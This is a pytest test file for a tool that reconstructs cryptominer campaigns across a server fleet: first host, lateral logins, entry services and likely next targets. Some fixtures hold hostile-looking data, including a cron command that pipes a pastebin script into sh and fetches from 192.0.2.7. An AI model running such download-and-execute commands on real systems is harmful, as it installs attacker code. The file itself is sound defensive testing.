"""Who was first, how it went on, from where, and what is over."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from extension.fleet import export
from extension.fleet.listing import LISTS
from extension.fleet.names import Names
from extension.fleet.order import in_order
from extension.fleet.report.times import over_since
from extension.fleet.report.words import words
from extension.tabular import Row
from tests.fleet.looking import line, miner, reported, told

T, HOUR, DAY = 1795436552, 3600, 86400


def _address(host: str, address: str) -> dict[str, Any]:
    return line("tcp_connections", 0, T, "snapshot", host, local_address=address, remote_address="10.0.0.250")


def _login(host: str, remote: str, when: int) -> dict[str, Any]:
    return line("logins", 0, T + 3 * DAY, "snapshot", host, remote=remote, username="root", logged_in_at=str(when))


def test_an_order_heeds_who_was_reached_from_whom() -> None:
    assert in_order("abcd", [("d", "a"), ("a", "b")]) == ["c", "d", "a", "b"]
    assert in_order("abc", []) == ["a", "b", "c"]
    # A circle has no beginning but the clocks'.
    assert in_order("abc", [("a", "b"), ("b", "a"), ("b", "c")]) == ["a", "b", "c"]


def test_a_hosts_clock_does_not_put_it_before_the_one_that_it_was_reached_from(tmp_path: Path, names: Names) -> None:
    when = {"first": T + HOUR, "second": T + 2 * HOUR, "third": T + HOUR // 2}
    lines = [miner(host, time, wallet="4w") for host, time in when.items()]
    lines += [_address(host, f"10.0.0.{number}") for number, host in enumerate(when, 1)]
    lines += [_login("second", "10.0.0.1", when["second"] - 60), _login("third", "10.0.0.2", when["third"] - 60)]
    assert told(reported(tmp_path, names, lines)) == [["first", "second", "third"]]


def test_logins_of_before_are_no_spread(tmp_path: Path, names: Names) -> None:
    """An administrator went from one to the other for a month; then both fell, the other one first."""
    lines = [miner("other", T + DAY, wallet="4w"), miner("one", T + 2 * DAY, wallet="4w")]
    lines += [_address("one", "10.0.0.1"), _address("other", "10.0.0.2"), _login("other", "10.0.0.1", T - 20 * DAY)]
    (campaign,) = (report := reported(tmp_path, names, lines))["campaigns"]
    assert told(report) == [["other", "one"]] and campaign["logins"] == []


def test_logins_are_also_told_by_names_and_by_the_log_of_failed_ones(tmp_path: Path, names: Names) -> None:
    lines = [miner(host, T + n * HOUR, wallet="4w") for n, host in enumerate(("first", "second.example", "third"))]
    lines += [_address("first", "::ffff:10.0.0.1"), _address("second.example", "10.0.0.2")]
    lines.append(_login("third", "second.example", T + 2 * HOUR - 60))
    failed = {"remote_address": "10.0.0.1", "username": "root", "failures": "3", "first_success": str(T + HOUR - 60)}
    lines.append(line("login_failures", 0, T + DAY, "snapshot", "second.example", **failed, last_success="0"))
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert [(login["from"], login["to"]) for login in campaign["logins"]] == [
        ("first", "second.example"),
        ("second.example", "third"),
    ]


def test_only_addresses_from_which_nobody_else_is_logged_in_to_are_an_attackers(tmp_path: Path, names: Names) -> None:
    lines = [miner(host, T, wallet="4w") for host in ("a", "b")]
    for host in ("a", "b", "q1", "q2", "q3"):
        office = {"remote": "192.0.2.10", "username": "anna", "logged_in_at": str(T - HOUR)}
        lines.append(line("logins", 0, T + DAY, "snapshot", host, **office))
    lines.append(line("logins", 0, T + DAY, "snapshot", "a", remote="192.0.2.66", username="root", logged_in_at=str(T - 60)))
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert [each["address"] for each in campaign["outside"]] == ["192.0.2.66"]


def test_logins_of_any_day_by_full_names_and_former_addresses(tmp_path: Path, names: Names) -> None:
    """wtmp's newest rows are logged each day, and the middle one has the attacker's; the first host has had two addresses."""
    lines = [miner(host, T + n * DAY, wallet="4w") for n, host in enumerate(("first", "second", "third"), 1)]
    lines.append(_address("first", "10.0.0.1"))
    lines.append({**_address("first", "10.0.0.9"), "unixTime": T + 6 * DAY})
    for day in range(1, 6):
        newest = [{"remote": "10.9.0.7", "username": "ansible", "logged_in_at": str(T + day * DAY - n)} for n in range(2)]
        to_second = {"remote": "10.0.0.1", "username": "root", "logged_in_at": str(T + 2 * DAY - 60)}
        to_third = {"remote": "second.corp.example", "username": "root", "logged_in_at": str(T + 3 * DAY - 60)}
        for host, own, when in (("second", to_second, 2), ("third", to_third, 3)):
            rows = [*newest, own] if day == when else newest
            told = {**line("logins", 0, T + day * DAY, "snapshot", host), "snapshot": rows}
            lines.append({key: value for key, value in told.items() if key not in ("columns", "action")})
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert [(login["from"], login["to"]) for login in campaign["logins"]] == [("first", "second"), ("second", "third")]


def test_who_came_before_the_campaign_or_long_after_it_is_no_attacker(tmp_path: Path, names: Names) -> None:
    lines = [miner(host, T + 5 * DAY, wallet="4w") for host in ("a", "b")]
    for host in ("a", "b"):
        lines += [_login(host, "192.0.2.5", T + day * DAY) for day in range(5)]
        lines += [_login(host, "192.0.2.66", T + 5 * DAY - 600), _login(host, "192.0.2.7", T + 8 * DAY)]
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert {each["address"] for each in campaign["outside"]} == {"192.0.2.66"}


@pytest.mark.parametrize("is_seen", [True, False])
def test_what_stands_open_everywhere_is_no_way_in_where_another_was_seen(tmp_path: Path, names: Names, is_seen: bool) -> None:
    open_to_all = {"service": "prometheus", "address": "0.0.0.0", "port": "9090", "pid": "9", "exe_path": "/usr/bin/prometheus"}
    lines = [line("exposed_entry_service", 0, T, "added", f"h{n}", evidence="x", **open_to_all) for n in range(12)]
    lines += [miner(f"h{n}", T + DAY + n * HOUR, wallet="4w") for n in range(3)]
    guessed = {"remote_address": "203.0.113.4", "username": "root", "evidence": "x"}
    if is_seen:
        lines += [line("brute_force_login_succeeded", 1, T + DAY + n * HOUR - 600, "added", f"h{n}", **guessed) for n in range(3)]
    report = reported(tmp_path, names, lines)
    (campaign,) = report["campaigns"]
    entry = [each["en"] for each in campaign["entry"]]
    assert any("guessed login" in each for each in entry) is is_seen
    assert any("prometheus" in each for each in entry) is not is_seen
    assert len(report["next"]) == (0 if is_seen else 9)


def test_whom_the_attacker_logged_in_to_as_well_is_next(tmp_path: Path, names: Names) -> None:
    lines = [miner(host, T + n * HOUR, wallet="4w") for n, host in enumerate("abcd")]
    lines += [_login(host, "203.0.113.77", T + n * HOUR - 300) for n, host in enumerate("abcd")]
    lines += [_login("silent", "::ffff:203.0.113.77", T + DAY), _login("other", "203.0.113.5", T + DAY)]
    lines.append(_login("before", "203.0.113.77", T - 9 * DAY))
    report = reported(tmp_path, names, lines)
    assert [(one["host"], one["reasons"]) for one in report["next"]] == [
        ("silent", [{"kind": "login", "campaign": "C1", "what": "203.0.113.77 (root)"}])
    ]


def test_a_login_from_a_host_that_fell_to_something_else_is_told(tmp_path: Path, names: Names) -> None:
    lines = [miner(host, T + n * HOUR, wallet="4w") for n, host in enumerate(("one", "two"), 2)]
    lines += [miner("shell", T + HOUR, exe_path="/opt/.s/x"), _address("shell", "10.0.0.1"), _address("quiet", "10.0.0.2")]
    lines += [_login("one", "10.0.0.1", T + 2 * HOUR - 60), _login("two", "10.0.0.2", T + 3 * HOUR - 60)]
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert [(login["from"], login["to"]) for login in campaign["logins"]] == [("shell", "one")]
    assert [host["host"] for host in campaign["hosts"]] == ["one", "two"]


def test_a_host_that_was_cleaned_is_still_the_first(tmp_path: Path, names: Names) -> None:
    lines = [line("cron_jobs", 0, T, "added", "first", command="x"), miner("first", T + HOUR, wallet="4w")]
    lines.append(miner("first", T + HOUR, "removed", 2, T + DAY, wallet="4w"))
    lines += [miner(host, T + n * HOUR, wallet="4w") for n, host in enumerate(("second", "third"), 2)]
    report = reported(tmp_path, names, lines)
    assert told(report) == [["first", "second", "third"]]
    ends = [host["ended"] for host in report["campaigns"][0]["hosts"]]
    assert ends[0] is not None and ends[1:] == [None, None]
    # It is not compromised now, and nobody says that it is clean.
    assert report["summary"]["compromised"] == 2
    assert {host["host"]: host["verdict"] for host in report["hosts"]}["first"] == "was_compromised"
    assert "1 was compromised and shows nothing of it now" in report["sentence"]["en"]


def test_a_host_that_mined_alone_is_not_clean_when_it_pauses(tmp_path: Path, names: Names) -> None:
    """What a detection took for something until somebody said that it is normal is no news when it is over."""
    lines = [line("cron_jobs", 0, T, "added", host, command="x") for host in ("paused", "mended")]
    lines += [miner("paused", T, wallet="4own"), miner("paused", T, "removed", 2, T + DAY, wallet="4own")]
    agent = {"unit": "agent.service", "path": "/etc/systemd/system/agent.service", "command": "/opt/agent"}
    lines += [
        line("systemd_unpackaged_system_program", 1 + n, T + n * DAY, action, "mended", **agent)
        for n, action in enumerate(("added", "removed"))
    ]
    report = reported(tmp_path, names, lines)
    assert [(one["host"], one["ended"] is not None) for one in report["incidents"]] == [("paused", True)]
    assert {host["host"]: host["verdict"] for host in report["hosts"]} == {"paused": "was_compromised", "mended": "clean"}
    summary = report["summary"]
    assert (summary["compromised"], summary["was_compromised"], summary["without_findings"]) == (0, 1, 1)
    assert report["campaigns"] == [] and "1 was compromised and shows nothing of it now" in report["sentence"]["en"]
    (row,) = LISTS["incidents"](report, "en")
    assert isinstance(row, Row)
    assert row.brief["sentence"].endswith(over_since(report["incidents"][0]["ended"], words("en")))


def test_what_ran_long_before_the_logs_was_first(tmp_path: Path, names: Names) -> None:
    days = {"third": 5, "second": 28, "first": 40}
    lines = [miner(host, T - before * DAY, logged=T, counter=0, wallet="4w") for host, before in days.items()]
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert [host["host"] for host in campaign["hosts"]] == ["first", "second", "third"]
    assert campaign["began"][:10] == "2026-10-14"


def test_a_campaign_of_which_all_is_over_is_no_campaign_of_the_compromised(tmp_path: Path, names: Names) -> None:
    lines = [line("cron_jobs", 0, T, "added", host, command="x") for host in ("a", "b", "c")]
    for host in ("a", "b"):
        lines += [miner(host, T, wallet="4w"), miner(host, T, "removed", 2, T + DAY, wallet="4w")]
    report = reported(tmp_path, names, lines)
    assert report["sentence"]["en"].startswith("Of 3 hosts, 0 are compromised (1 campaign no longer found); 1 reported")


def test_a_miner_that_is_started_anew_began_when_it_first_ran(tmp_path: Path, names: Names) -> None:
    same = {"wallet": "4w", "exe_path": "/tmp/.x/x"}
    lines = [miner("first", T + HOUR, pid="10", **same), miner("second", T + 5 * HOUR, **same)]
    lines.append(miner("first", T + HOUR, "removed", 2, T + 9 * HOUR, pid="10", **same))
    lines.append(miner("first", T + 9 * HOUR, "added", 2, pid="11", **same))
    assert told(reported(tmp_path, names, lines)) == [["first", "second"]]


def test_a_host_that_was_enrolled_again_began_before_that(tmp_path: Path, names: Names) -> None:
    key = {"fingerprint": "SHA256:x", "path": "/root/.ssh/authorized_keys", "username": "root", "evidence": "x"}
    lines = []
    for epoch, when in ((0, T), (7, T + 5 * DAY)):
        lines.append(line("cron_jobs", 0, when, "added", "first", epoch, command="x"))
        lines.append(line("immutable_key_file", 0 if epoch else 1, when + 60, "added", "first", epoch, **key))
    lines += [
        line("immutable_key_file", 1, T + DAY, "added", "second", **key),
        miner("second", T + DAY),
        miner("first", T + 5 * DAY),
    ]
    assert told(reported(tmp_path, names, lines)) == [["first", "second"]]


def test_a_campaign_does_not_begin_with_a_roll_out_on_one_of_its_hosts(tmp_path: Path, names: Names) -> None:
    job = {"path": "/etc/cron.d/c", "command": "curl -s https://conf.corp.example/bootstrap.sh | bash", "evidence": "x"}
    lines = [line("cron_download_and_run", 1, T, "added", f"h{n}", **job) for n in range(9)]
    lines += [miner("other", T + DAY, wallet="4w"), miner("h5", T + 2 * DAY, wallet="4w")]
    report = reported(tmp_path, names, lines)
    assert told(report) == [["other", "h5"]]
    assert "conf.corp.example" not in {each["value"] for each in report["campaigns"][0]["indicators"]}


def test_what_stands_open_on_most_of_its_hosts_is_how_it_came_in(tmp_path: Path, names: Names) -> None:
    """Also where the service had run for longer than an incident reaches back."""
    lines = []
    for n in range(3):
        docker = {"pid": "5", "start_time": str(T - 90 * DAY), "service": "docker", "address": "0.0.0.0", "port": "2375"}
        lines.append(line("exposed_entry_service", 0, T - DAY, "added", f"h{n}", evidence="x", **docker))
        lines.append(miner(f"h{n}", T + n, image="registry.example/sync:1"))
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert "docker" in campaign["entry"][0]["en"]


def test_what_is_given_to_others_can_be_read_by_them(tmp_path: Path, names: Names) -> None:
    job = {
        "path": "/etc/cron.d/c",
        "evidence": "x",
        "command": "curl -s https://pastebin.com/raw/Ab12Cd34 | sh; curl http://192.0.2.7/x",
    }
    pool = {"pool": "198.51.100.9:3333, nanopool", "wallet": "4w"}
    lines = [miner(host, T, **pool) for host in ("a", "b")]
    lines += [line("cron_download_and_run", 1, T, "added", host, **job) for host in ("a", "b")]
    lines += [line("hidden_kernel_module", 1, T, "added", host, module="nfx", evidence="x") for host in ("a", "b")]
    guessed = {"remote_address": "185.220.101.4", "username": "root", "evidence": "x"}
    lines += [line("brute_force_login_succeeded", 1, T - 60, "added", host, **guessed) for host in ("a", "b")]
    report = reported(tmp_path, names, lines)
    # Neither a page of a site nor a pool's own name for itself is an address, and from where anybody guesses is no pool.
    assert export.render(report, (), "minehunt").splitlines()[1:] == ["192.0.2.7", "198.51.100.9:3333"]
    told = {(each["kind"], each["value"]) for each in report["campaigns"][0]["indicators"]}
    assert {("module", "nfx"), ("address", "185.220.101.4")} <= told
    assert "185.220.101.4" in export.render(report, (), "csv")


def test_a_service_that_let_somebody_in_ran_before_that(tmp_path: Path, names: Names) -> None:
    lines = []
    for number, host in enumerate(("first", "second")):
        when = T + number * DAY
        redis = {"service": "redis", "pid": "7", "start_time": str(T - (9 + number) * DAY), "exe_path": "/usr/bin/redis-server"}
        lines.append(line("database_writes_jobs_or_keys", 1, when, "added", host, **redis, target="/etc/cron.d/x", evidence="x"))
        lines.append(miner(host, when + 60, wallet="4w"))
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert [host["host"] for host in campaign["hosts"]] == ["first", "second"]
    assert campaign["began"] == "2026-11-23T12:22:32Z"


def test_a_compromise_that_setting_the_host_up_anew_ended_lasted_until_then(tmp_path: Path, names: Names) -> None:
    lines = [line(query, 0, T, "added", "a", command="x") for query in ("cron_jobs", "startup_commands")]
    lines += [miner("a", T + HOUR, wallet="4w"), miner("b", T + 2 * HOUR, wallet="4w")]
    lines += [line(query, 0, T + 2 * DAY, "added", "a", epoch=1, command="x") for query in ("cron_jobs", "startup_commands")]
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert {host["host"]: host["ended"] for host in campaign["hosts"]} == {"a": "2026-11-25T12:22:32Z", "b": None}


def test_whoever_has_the_weak_key_by_which_they_came_is_next(tmp_path: Path, names: Names) -> None:
    weak = {"username": "vagrant", "fingerprint": "SHA256:weak", "path": "/home/vagrant/.ssh/authorized_keys", "evidence": "x"}
    lines = [line("weak_ssh_key", 0, T - DAY, "added", host, **weak) for host in ("a", "b", "c")]
    lines += [miner(host, T, wallet="4w") for host in ("a", "b")]
    (following,) = reported(tmp_path, names, lines)["next"]
    assert following["host"] == "c" and following["reasons"] == [{"kind": "key", "campaign": "C1", "what": "SHA256:weak"}]


def test_an_address_that_two_sites_use_is_that_of_the_host_that_had_fallen(tmp_path: Path, names: Names) -> None:
    lines = [miner(host, T + n * HOUR, wallet="4w") for n, host in enumerate(("a", "b"))]
    for host, address in (("a", "10.1.0.2"), ("elsewhere", "10.1.0.2"), ("b", "10.1.0.3")):
        lines.append(line("tcp_connections", 0, T + DAY, "snapshot", host, local_address=address, remote_address="192.0.2.1"))
    came = {"remote": "10.1.0.2", "username": "root", "logged_in_at": str(T + HOUR - 60)}
    lines.append(line("logins", 0, T + DAY, "snapshot", "b", **came))
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert [(each["from"], each["to"]) for each in campaign["logins"]] == [("a", "b")] and campaign["outside"] == []
